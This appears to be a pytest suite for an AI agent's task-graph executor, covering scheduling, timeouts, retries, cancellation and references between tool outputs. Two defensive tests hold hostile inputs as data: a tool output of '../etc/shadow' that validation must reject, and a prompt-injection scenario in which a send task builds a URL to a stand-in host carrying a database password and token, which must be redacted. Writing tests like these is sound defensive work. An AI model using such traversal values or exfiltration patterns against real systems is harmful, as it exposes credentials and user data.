"""A graph in, results out."""

from __future__ import annotations

import asyncio
import random
from collections.abc import Awaitable, Callable, Mapping
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from toolset import FakeTool, Noted, executor_of, pools_of

from agentd.agent.call import GRACE_S
from agentd.agent.executor import LONGEST_WAIT_S, Executor
from agentd.agent.graph import TaskGraph
from agentd.agent.port import ToolContext, ToolFailure
from agentd.fleet.messages import ErrorKind, Result, Task, WorkerClass
from agentd.testing import FakeClock


def task(id: str, *needs: str, tool: str = "look", **more: Any) -> Task:
    return Task(id, tool, more.pop("input", {}), depends_on=needs, **more)


def taking(seconds: float) -> FakeTool:
    async def does(input: Mapping[str, Any], context: ToolContext) -> Any:
        await asyncio.sleep(seconds)
        return "done"

    return FakeTool("look", does)


def failing(*failures: Exception, name: str = "look", repeatable: bool = True) -> FakeTool:
    """Fails with these in turn, then goes well."""
    left = list(failures)

    async def does(input: Mapping[str, Any], context: ToolContext) -> Any:
        if left:
            raise left.pop(0)
        return "well"

    return FakeTool(name, does, repeatable=repeatable)


def hanging(*, stubborn: bool = False) -> FakeTool:
    """stubborn: it takes no notice of its cancellation, until the loop itself ends."""

    async def does(input: Mapping[str, Any], context: ToolContext) -> Any:
        ignored = not stubborn
        while True:
            try:
                await asyncio.Event().wait()
            except asyncio.CancelledError:
                if ignored:
                    raise
                ignored = True

    return FakeTool("look", does)


class AtOnce:
    """Counts how many calls are under way."""

    def __init__(self, seconds: float = 1.0) -> None:
        self.now = 0
        self.most = 0
        self.tool = FakeTool("look", self._does)
        self._seconds = seconds

    async def _does(self, input: Mapping[str, Any], context: ToolContext) -> Any:
        self.now += 1
        self.most = max(self.most, self.now)
        await asyncio.sleep(self._seconds)
        self.now -= 1


def errors(results: list[Result]) -> list[str]:
    return [str(result.error or "ok") for result in results]


Story = Callable[[FakeClock, asyncio.Task[list[Result]]], Awaitable[None]]


def told(executor: Executor, graph: TaskGraph, story: Story, watcher: Noted | None = None) -> list[Result]:
    """Run the graph while `story` moves the clock; the results."""
    clock = FakeClock()
    trouble: list[dict[str, Any]] = []

    async def tell() -> list[Result]:
        asyncio.get_running_loop().set_exception_handler(lambda loop, context: trouble.append(context))
        running = asyncio.ensure_future(executor.run(graph, watcher))
        await clock.settle()
        await story(clock, running)
        assert running.done(), "the graph still runs"
        return running.result()

    results = clock.run(tell())
    assert trouble == []
    return results


def after(seconds: float) -> Story:
    async def story(clock: FakeClock, running: asyncio.Task[list[Result]]) -> None:
        await clock.advance(seconds)

    return story


async def test_results_come_in_the_order_of_the_graph() -> None:
    """Whoever reads them counts on it."""
    graph = TaskGraph([task("b", "a"), task("c"), task("a")])
    results = await executor_of(FakeTool("look")).run(graph)

    assert [result.task for result in results] == ["b", "c", "a"]
    assert errors(results) == ["ok"] * 3


async def test_empty_graph_has_no_results() -> None:
    """And does not wait for any."""
    assert await executor_of(FakeTool("look")).run(TaskGraph([])) == []


def test_everything_ready_runs_at_once() -> None:
    """Eight waits of a second take a second."""
    graph = TaskGraph(task(f"t{n}") for n in range(8))

    assert errors(told(executor_of(taking(1.0)), graph, after(1.0))) == ["ok"] * 8


def test_dependent_begins_when_what_it_needs_has_ended() -> None:
    """Not a moment later: other tasks of the same depth do not hold it up."""
    watcher = Noted()

    async def does(input: Mapping[str, Any], context: ToolContext) -> Any:
        await asyncio.sleep(input["s"])

    graph = TaskGraph(
        [task("slow", input={"s": 5}), task("quick", input={"s": 1}), task("next", "quick", input={"s": 1})]
    )

    async def story(clock: FakeClock, running: asyncio.Task[list[Result]]) -> None:
        await clock.advance(2.0)
        assert ("ended", "next", "ok") in watcher.told
        await clock.advance(3.0)

    told(executor_of(FakeTool("look", does)), graph, story, watcher)


def test_no_more_than_max_parallel_at_once() -> None:
    """The limit of the run."""
    count = AtOnce()
    graph = TaskGraph(task(f"t{n}") for n in range(10))
    results = told(executor_of(count.tool, max_parallel=3), graph, after(4.0))

    assert errors(results) == ["ok"] * 10
    assert count.most == 3


def test_no_more_than_the_class_has_room_for() -> None:
    """And a full class does not hold up the other."""
    count, other = AtOnce(), FakeTool("think", kind="logic")
    graph = TaskGraph([task(f"t{n}") for n in range(4)] + [task("u", tool="think", kind="logic")])
    watcher = Noted()

    async def story(clock: FakeClock, running: asyncio.Task[list[Result]]) -> None:
        await clock.advance(0.5)
        assert ("ended", "u", "ok") in watcher.told
        await clock.advance(2.0)

    told(executor_of(count.tool, other, io=2), graph, story, watcher)

    assert count.most == 2


def test_max_parallel_may_change_meanwhile() -> None:
    """Fewer holds from the next task on, more at once."""
    count = AtOnce()
    executor = executor_of(count.tool, max_parallel=1)
    graph = TaskGraph(task(f"t{n}") for n in range(5))

    async def story(clock: FakeClock, running: asyncio.Task[list[Result]]) -> None:
        await clock.advance(0.5)
        executor.max_parallel = 4
        await clock.settle()
        assert count.now == 4
        executor.max_parallel = 0
        assert executor.max_parallel == 1
        await clock.advance(3.0)

    told(executor, graph, story)


def test_two_graphs_share_pools_and_both_end() -> None:
    """Room that one gives back wakes the other."""
    count = AtOnce()
    pools = pools_of(count.tool, io=1)
    first, second = Executor(pools), Executor(pools)
    clock = FakeClock()

    async def story() -> list[list[Result]]:
        runs = [asyncio.ensure_future(one.run(TaskGraph([task("a"), task("b")]))) for one in (first, second)]
        await clock.advance(4.0)
        return [await run for run in runs]

    assert [errors(results) for results in clock.run(story())] == [["ok", "ok"]] * 2
    assert count.most == 1
    assert pools.in_use() == {"io": 0, "logic": 0}


async def test_what_depends_on_a_failure_is_cancelled_and_names_it() -> None:
    """One result for each task, run or not; the rest goes on."""
    tools = failing(ValueError("broken"), name="fail"), FakeTool("look")
    graph = TaskGraph([task("a", tool="fail"), task("b", "a"), task("c", "b"), task("d")])
    watcher = Noted()
    results = await executor_of(*tools).run(graph, watcher)

    assert errors(results) == ["tool_error", "cancelled", "cancelled", "ok"]
    assert results[1].message == "not run: a (fail), which it depends on, ended as tool_error"
    assert {id for what, id, _ in watcher.told} == {"a", "d"}


def test_hung_tool_ends_by_its_time_while_others_finish() -> None:
    """One hung tool never hangs the agent."""
    graph = TaskGraph([task("a", tool="hang", timeout_s=3.0), task("b"), task("c", "b")])
    stuck = hanging()
    stuck.name = "hang"
    watcher = Noted()

    async def story(clock: FakeClock, running: asyncio.Task[list[Result]]) -> None:
        await clock.advance(2.5)
        assert ("ended", "c", "ok") in watcher.told
        await clock.advance(0.5)

    assert errors(told(executor_of(stuck, taking(1.0)), graph, story, watcher)) == ["timeout", "ok", "ok"]


def test_tool_that_ignores_everything_is_left_behind() -> None:
    """Its place is free again, and the graph ends."""
    executor = executor_of(hanging(stubborn=True))
    graph = TaskGraph([task("a", timeout_s=1.0)])
    results = told(executor, graph, after(1.0 + GRACE_S))

    assert errors(results) == ["timeout"]
    assert executor.pools.in_use()["io"] == 0
    assert executor.running == 0


@pytest.mark.parametrize("asked", [3600.0, float("inf"), float("nan"), 0.0, -1.0])
def test_no_task_takes_longer_than_the_tools_limit(asked: float) -> None:
    """Whatever the model asks for."""
    graph = TaskGraph([task("a", timeout_s=asked)])

    assert errors(told(executor_of(hanging(), tool_timeout_s=5.0), graph, after(5.0))) == ["timeout"]


def test_second_attempt_may_take_twice_the_limit() -> None:
    """The supervisor tries a timeout again with more time."""
    graph = TaskGraph([task("a", timeout_s=5.0)]).after(["a"])

    async def story(clock: FakeClock, running: asyncio.Task[list[Result]]) -> None:
        await clock.advance(9.9)
        assert not running.done()
        await clock.advance(0.1)

    assert told(executor_of(hanging(), tool_timeout_s=5.0), graph, story)[0].attempt == 2


def test_timeout_is_not_tried_again() -> None:
    """That is for the supervisor to say."""
    tool = hanging()
    told(executor_of(tool), TaskGraph([task("a", timeout_s=1.0)]), after(1.0))

    assert len(tool.inputs) == 1


def test_rate_limit_waits_as_long_as_it_was_told() -> None:
    """Not a moment less."""
    tool = failing(ToolFailure("slow down", ErrorKind.RATE_LIMITED, retry_after_s=7.0))
    watcher = Noted()

    async def story(clock: FakeClock, running: asyncio.Task[list[Result]]) -> None:
        await clock.advance(6.9)
        assert len(tool.inputs) == 1
        await clock.advance(0.1)

    results = told(executor_of(tool), TaskGraph([task("a")]), story, watcher)

    assert (errors(results), results[0].attempt) == (["ok"], 2)
    assert watcher.told == [
        ("started", "a", ""),
        ("update", "a", "rate limited: tried again in 7.0 s (attempt 2)"),
        ("ended", "a", "ok"),
    ]


def test_wait_longer_than_worth_it_is_left_to_the_supervisor() -> None:
    """A run has two minutes; a provider may say an hour."""
    tool = failing(ToolFailure("slow down", ErrorKind.RATE_LIMITED, retry_after_s=LONGEST_WAIT_S + 1))
    results = told(executor_of(tool), TaskGraph([task("a")]), after(0))

    assert (results[0].error, results[0].retry_after_s) == (ErrorKind.RATE_LIMITED, LONGEST_WAIT_S + 1)


def test_waiting_task_takes_no_room() -> None:
    """Others run while it waits."""
    limited = failing(ToolFailure("slow down", ErrorKind.RATE_LIMITED, retry_after_s=9.0), name="limited")
    graph = TaskGraph([task("a", tool="limited"), task("b"), task("c")])
    watcher = Noted()

    async def story(clock: FakeClock, running: asyncio.Task[list[Result]]) -> None:
        await clock.advance(2.0)
        assert ("ended", "c", "ok") in watcher.told
        await clock.advance(7.0)

    told(executor_of(limited, taking(1.0), max_parallel=1), graph, story, watcher)


def test_back_off_grows_and_tries_end() -> None:
    """A tool that never recovers is given up."""
    tool = failing(*[ToolFailure("busy", again=True)] * 10)

    class Longest(random.Random):
        def uniform(self, a: float, b: float) -> float:
            return b

    executor = executor_of(tool, retries=3, retry_delay_s=1.0, rng=Longest())

    async def story(clock: FakeClock, running: asyncio.Task[list[Result]]) -> None:
        tries = [len(tool.inputs)]
        for seconds in (1, 2, 4):
            await clock.advance(seconds)
            tries.append(len(tool.inputs))
        assert tries == [1, 2, 3, 4]

    results = told(executor, TaskGraph([task("a")]), story)

    assert (results[0].error, results[0].attempt) == (ErrorKind.TOOL_ERROR, 4)


@pytest.mark.parametrize(
    ("failure", "repeatable"),
    [
        (ToolFailure("no"), True),
        (ToolFailure("no", again=True), False),
        (ToolFailure("no", ErrorKind.DENIED, again=True), True),
        (ToolFailure("no", ErrorKind.INVALID_INPUT, again=True), True),
        (ToolFailure("no", ErrorKind.TIMEOUT, again=True), True),
        (ValueError("no"), True),
    ],
)
async def test_other_failures_are_not_tried_again(failure: Exception, repeatable: bool) -> None:
    """A second try is for what passes, and never for what may do harm twice."""
    tool = failing(failure, repeatable=repeatable)
    results = await executor_of(tool).run(TaskGraph([task("a")]))

    assert not results[0].ok
    assert len(tool.inputs) == 1


async def test_references_become_outputs() -> None:
    """With their types; the tool sees no reference."""

    async def does(input: Mapping[str, Any], context: ToolContext) -> Any:
        return {"lines": ["one", "two"], "n": 2}

    first, then = FakeTool("first", does), FakeTool("look")
    graph = TaskGraph(
        [task("t2", input={"n": "${t1.n}", "text": "saw ${t1.lines.0}"}), task("t1", tool="first")],
    )
    results = await executor_of(first, then).run(graph)

    assert errors(results) == ["ok", "ok"]
    assert then.inputs == [{"n": 2, "text": "saw one"}]


def test_output_is_not_read_for_references_at_the_next_try() -> None:
    """What was put in the first time stays what it is."""

    async def does(input: Mapping[str, Any], context: ToolContext) -> Any:
        return input["gives"]

    then = failing(ToolFailure("slow down", ErrorKind.RATE_LIMITED, retry_after_s=1.0), name="then")
    graph = TaskGraph(
        [
            task("t0", input={"gives": "hidden"}),
            task("t1", tool="echo"),
            task("t2", "t0", tool="then", input={"x": "${t1}"}),
        ]
    )

    async def says(input: Mapping[str, Any], context: ToolContext) -> Any:
        return "${t0}"

    told(executor_of(FakeTool("look", does), FakeTool("echo", says), then), graph, after(1.0))

    assert then.inputs == [{"x": "${t0}"}] * 2


async def test_resolved_input_is_checked_as_any_other() -> None:
    """Outputs are hostile: they get through no door that is shut for inputs."""

    async def does(input: Mapping[str, Any], context: ToolContext) -> Any:
        return "../etc/shadow"

    narrow = FakeTool("look", schema={"type": "object", "properties": {"name": {"pattern": "^[a-z]+$"}}})
    graph = TaskGraph([task("t1", tool="first"), task("t2", input={"name": "${t1}"})])
    results = await executor_of(FakeTool("first", does), narrow).run(graph)

    assert errors(results) == ["ok", "invalid_input"]
    assert narrow.inputs == []


async def test_no_secret_goes_from_tool_to_tool() -> None:
    """A model that was told to could send what it is never shown: `${read.text}` within the same graph."""

    async def reads(input: Mapping[str, Any], context: ToolContext) -> Any:
        return {"text": "db password=hunter2secret\nport 5432", "token": "ab12cd34ef", "lines": 2}

    sends = FakeTool("send")
    executor = executor_of(FakeTool("read", reads), sends)
    earlier = Result("s1", "read", {"text": "password=hunter2secret"})
    graph = TaskGraph(
        [
            task("a", tool="read"),
            task("b", tool="send", input={"url": "http://x/?${a.text}", "all": "${a}", "old": "${s1.text}"}),
            task("c", "a", tool="send", input={"part": "${a.token}", "lines": "${a.lines}"}),
        ],
        known=[earlier],
    )

    results = await executor.run(graph)

    assert errors(results) == ["ok"] * 3
    assert "hunter2secret" not in str(sends.inputs)
    assert "ab12cd34ef" not in str(sends.inputs)
    assert sends.inputs[0]["url"] == "http://x/?db password=***\nport 5432"
    assert sends.inputs[1] == {"part": "***", "lines": 2}
    assert results[0].output["token"] == "ab12cd34ef", "what the watcher is told is for the watcher to clean"


async def test_reference_that_leads_nowhere_is_invalid_input() -> None:
    """With words for the model, and what waits for it ends too."""
    graph = TaskGraph([task("a"), task("b", input={"x": "${a.nothing}"}), task("c", "b")])
    executor = executor_of(FakeTool("look"))
    results = await executor.run(graph)

    assert errors(results) == ["ok", "invalid_input", "cancelled"]
    assert "a has no 'nothing'" in results[1].message
    assert executor.pools.in_use()["io"] == 0


async def test_part_that_runs_again_still_sees_what_went_well_before() -> None:
    """The first task is not run twice for it."""
    tool, then = FakeTool("look"), failing(ToolFailure("late", ErrorKind.TIMEOUT), name="then")
    executor = executor_of(tool, then)
    graph = TaskGraph([task("a"), task("b", tool="then", input={"x": "${a.did}"})])
    results = await executor.run(graph)
    again = await executor.run(graph.after(["b"], results))

    assert errors(again) == ["ok"]
    assert then.inputs == [{"x": "look"}, {"x": "look"}]
    assert len(tool.inputs) == 1


def test_cancel_of_one_leaves_the_others() -> None:
    """And of what waits for it, nothing runs."""
    executor = executor_of(hanging(), FakeTool("quick"))
    graph = TaskGraph([task("a"), task("b", "a", tool="quick"), task("c", tool="quick")])

    async def story(clock: FakeClock, running: asyncio.Task[list[Result]]) -> None:
        executor.cancel("a")
        await clock.settle()

    assert errors(told(executor, graph, story)) == ["cancelled", "cancelled", "ok"]


@pytest.mark.parametrize("stubborn", [False, True])
def test_cancel_of_all_takes_no_longer_than_the_grace(stubborn: bool) -> None:
    """Running, waiting for room, waiting for others: all end, well under a tenth of a second."""
    executor = executor_of(hanging(stubborn=stubborn), max_parallel=2)
    graph = TaskGraph([task(f"t{n}") for n in range(5)] + [task("u", "t0")])

    async def story(clock: FakeClock, running: asyncio.Task[list[Result]]) -> None:
        executor.cancel()
        await clock.advance(GRACE_S if stubborn else 0)

    assert errors(told(executor, graph, story)) == ["cancelled"] * 6
    assert executor.running == 0
    assert GRACE_S < 0.1


def test_cancel_ends_a_wait_for_the_next_try() -> None:
    """A back-off is no reason to stay."""
    tool = failing(ToolFailure("slow down", ErrorKind.RATE_LIMITED, retry_after_s=20.0))
    executor = executor_of(tool)

    async def story(clock: FakeClock, running: asyncio.Task[list[Result]]) -> None:
        await clock.advance(1.0)
        executor.cancel()
        await clock.settle()
        assert running.done()
        await clock.advance(30.0)

    assert errors(told(executor, TaskGraph([task("a")]), story)) == ["cancelled"]
    assert len(tool.inputs) == 1


def test_cancelling_the_caller_ends_the_tools_first() -> None:
    """When the await returns, nothing of it is under way."""
    executor = executor_of(hanging())
    clock = FakeClock()

    async def story() -> None:
        running = asyncio.ensure_future(executor.run(TaskGraph([task("a"), task("b", "a")])))
        await clock.settle()
        running.cancel()
        await clock.settle()
        assert running.cancelled()
        assert executor.running == 0
        assert executor.pools.in_use()["io"] == 0

    clock.run(story())


async def test_cancel_of_what_is_not_there_does_nothing() -> None:
    """Nor does cancel without a graph."""
    executor = executor_of(FakeTool("look"))
    executor.cancel()
    executor.cancel("a")

    assert errors(await executor.run(TaskGraph([task("a")]))) == ["ok"]


async def test_progress_is_passed_on() -> None:
    """Partial results are told while the tool works."""

    async def does(input: Mapping[str, Any], context: ToolContext) -> Any:
        context.report("10 of 20")

    watcher = Noted()
    await executor_of(FakeTool("look", does)).run(TaskGraph([task("a")]), watcher)

    assert watcher.told == [("started", "a", ""), ("update", "a", "10 of 20"), ("ended", "a", "ok")]


async def test_watcher_that_raises_harms_nobody(caplog: pytest.LogCaptureFixture) -> None:
    """It is logged, and the graph goes on."""

    class Broken(Noted):
        def started(self, task: Task) -> None:
            raise RuntimeError

        def ended(self, task: Task, result: Result) -> None:
            raise RuntimeError

    results = await executor_of(FakeTool("look")).run(TaskGraph([task("a"), task("b", "a")]), Broken())

    assert errors(results) == ["ok", "ok"]
    assert "listener_failed" in caplog.text


async def test_watcher_may_cancel_from_within() -> None:
    """Listeners react to what they hear."""
    executor = executor_of(FakeTool("look"))

    class Stopping(Noted):
        def started(self, task: Task) -> None:
            executor.cancel()

    results = await executor.run(TaskGraph([task("a"), task("b", "a"), task("c")]), Stopping())

    assert errors(results) == ["cancelled"] * 3
    assert (executor.running, executor.pools.in_use()["io"]) == (0, 0)


async def test_crash_of_a_worker_is_reported(monkeypatch: pytest.MonkeyPatch) -> None:
    """A defect of our own is a result too, and the rest goes on."""
    executor = executor_of(FakeTool("look"))

    def broken(self: object, task: Task, *rest: Any, **more: Any) -> None:
        raise MemoryError("no room")

    monkeypatch.setattr("agentd.agent.worker.Worker.start", broken)
    results = await executor.run(TaskGraph([task("a"), task("b", "a")]))

    assert errors(results) == ["tool_error", "cancelled"]
    assert "MemoryError" in results[0].message
    assert (executor.running, executor.pools.in_use()["io"]) == (0, 0)


async def test_no_asyncio_task_but_those_of_tools() -> None:
    """What a step costs beside the tool itself is our overhead."""
    counts: list[int] = []

    async def does(input: Mapping[str, Any], context: ToolContext) -> Any:
        counts.append(len(asyncio.all_tasks()))
        await asyncio.sleep(0)

    await executor_of(FakeTool("look", does)).run(TaskGraph(task(f"t{n}") for n in range(8)))

    assert max(counts) == 9  # eight calls and this test


@settings(deadline=None, max_examples=60)
@given(st.data())
def test_every_task_has_exactly_one_result(data: st.DataObject) -> None:
    """Whatever tools do, whoever cancels: as many results as tasks, in order, and no room lost."""
    count = data.draw(st.integers(1, 12))
    deeds = ["well", "raise", "hang", "limited", "slow", "stubborn", "none"]
    kinds: list[WorkerClass] = ["io", "logic"]
    tasks = []
    for place in range(count):
        deed = data.draw(st.sampled_from(deeds))
        needs = data.draw(st.sets(st.integers(0, place - 1), max_size=3)) if place else set()
        kind = data.draw(st.sampled_from(kinds))
        tasks.append(
            task(
                f"t{place}",
                *(f"t{n}" for n in needs),
                tool="gone" if deed == "none" else "look",
                input={"deed": deed},
                timeout_s=2.0,
                kind=kind,
            )
        )
    cancel_at = data.draw(st.none() | st.floats(0, 6))

    async def does(input: Mapping[str, Any], context: ToolContext) -> Any:
        match input["deed"]:
            case "raise":
                raise ValueError
            case "limited":
                raise ToolFailure("wait", ErrorKind.RATE_LIMITED, retry_after_s=1.0)
            case "slow":
                await asyncio.sleep(1.0)
            case "hang":
                await asyncio.Event().wait()
            case "stubborn":
                try:
                    await asyncio.sleep(30.0)
                except asyncio.CancelledError:
                    await asyncio.sleep(1.0)
        return "well"

    executor = executor_of(FakeTool("look", does), io=3, logic=1, max_parallel=3, retries=2)
    watcher = Noted()

    async def story(clock: FakeClock, running: asyncio.Task[list[Result]]) -> None:
        if cancel_at is not None:
            await clock.advance(cancel_at)
            executor.cancel()
        await clock.advance(120.0)

    results = told(executor, TaskGraph(tasks), story, watcher)

    assert [result.task for result in results] == [one.id for one in tasks]
    assert executor.running == 0
    assert executor.pools.in_use() == {"io": 0, "logic": 0}
    for one in tasks:
        heard = [what for what, id, _ in watcher.told if id == one.id and what != "update"]
        assert heard in ([], ["started", "ended"])
